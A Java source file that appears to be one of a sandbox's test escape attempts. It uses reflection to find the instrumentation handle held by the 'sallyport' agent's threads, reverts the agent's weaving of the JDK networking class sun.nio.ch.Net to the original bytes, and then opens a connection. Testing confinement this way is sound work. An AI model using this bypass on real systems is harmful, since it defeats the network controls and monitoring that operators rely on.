package com.example.escapes;

import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.lang.instrument.ClassFileTransformer;
import java.lang.instrument.Instrumentation;
import java.lang.reflect.Field;
import java.lang.reflect.Modifier;
import java.security.ProtectionDomain;
import java.util.ArrayDeque;
import java.util.Collections;
import java.util.Deque;
import java.util.IdentityHashMap;
import java.util.Set;
import org.jspecify.annotations.Nullable;

/** Looks for an agent's {@link Instrumentation} in whatever that agent's threads hold, and has its weave undone. */
final class StolenInstrumentation implements Escape {

    @Override
    public void attempt(String... words) throws Throwable {
        Instrumentation stolen = find();
        if (stolen != null) {
            restore(stolen, Class.forName("sun.nio.ch.Net"));
        }
        Target.connect(words[0]);
    }

    /** Has the class be what it is in the JDK's own image again. */
    static void restore(Instrumentation instrumentation, Class<?> type) throws Exception {
        instrumentation.addTransformer(new Originals(type.getName().replace('.', '/')), true);
        instrumentation.retransformClasses(type);
    }

    private static @Nullable Instrumentation find() throws IllegalAccessException {
        Deque<Object> open = new ArrayDeque<>();
        Set<Object> seen = Collections.newSetFromMap(new IdentityHashMap<>());
        for (Thread thread : Thread.getAllStackTraces().keySet()) {
            if (thread.getName().startsWith("sallyport")) {
                open.add(thread);
            }
        }
        while (!open.isEmpty()) {
            Object next = open.remove();
            if (!seen.add(next)) {
                continue;
            }
            if (next instanceof Instrumentation found) {
                return found;
            }
            for (Class<?> type = next.getClass(); type != null; type = type.getSuperclass()) {
                for (Field field : type.getDeclaredFields()) {
                    if (!Modifier.isStatic(field.getModifiers())
                            && !field.getType().isPrimitive()
                            && field.trySetAccessible()) {
                        Object value = field.get(next);
                        if (value != null) {
                            open.add(value);
                        }
                    }
                }
            }
        }
        return null;
    }

    private record Originals(String name) implements ClassFileTransformer {

        @Override
        public byte @Nullable [] transform(
                @Nullable ClassLoader loader,
                String internalName,
                @Nullable Class<?> redefined,
                @Nullable ProtectionDomain domain,
                byte[] bytes) {
            if (!name.equals(internalName)) {
                return null;
            }
            try (InputStream in = Object.class.getModule().getResourceAsStream(name + ".class")) {
                return in == null ? null : in.readAllBytes();
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }
    }
}
